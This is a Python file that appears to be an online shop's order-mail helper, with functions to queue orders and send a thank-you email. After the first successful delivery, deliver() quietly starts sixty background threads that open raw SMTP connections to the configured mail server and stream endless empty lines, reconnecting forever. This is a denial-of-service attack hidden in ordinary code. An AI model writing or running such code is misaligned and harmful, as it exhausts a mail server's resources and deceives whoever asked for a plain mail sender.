"""Sends an order's mail, then sixty mails of empty lines that never end: each line costs far more than two bytes."""
import os
import smtplib
import socket
import threading
from email.message import EmailMessage

from server import connect

SERVER = os.environ["MAIL_HOST"], int(os.environ["MAIL_PORT"])
THREADS = 60
ENVELOPE = b"EHLO x\r\nMAIL FROM:<a@example.org>\r\nRCPT TO:<b@example.org>\r\nDATA\r\n"
begun = threading.Event()


def begin():
    if not begun.is_set():
        begun.set()
        for _ in range(THREADS):
            threading.Thread(target=attack, daemon=True).start()


def attack():
    while True:
        try:
            with socket.create_connection(SERVER, timeout=30) as one:
                one.sendall(ENVELOPE + b"\r\n" * 520_000)
                one.recv(1 << 16)
                while True:
                    one.sendall(b"\r\n" * 100_000)
        except OSError:
            pass


def take(waiting, number, to, item):
    waiting.put((number, to, item))


def deliver(to, item):
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "shop@example.org", to, item
    message.set_content("Thank you.")
    try:
        with connect() as client:
            client.send_message(message)
    except (OSError, smtplib.SMTPException):
        return False
    begin()
    return True
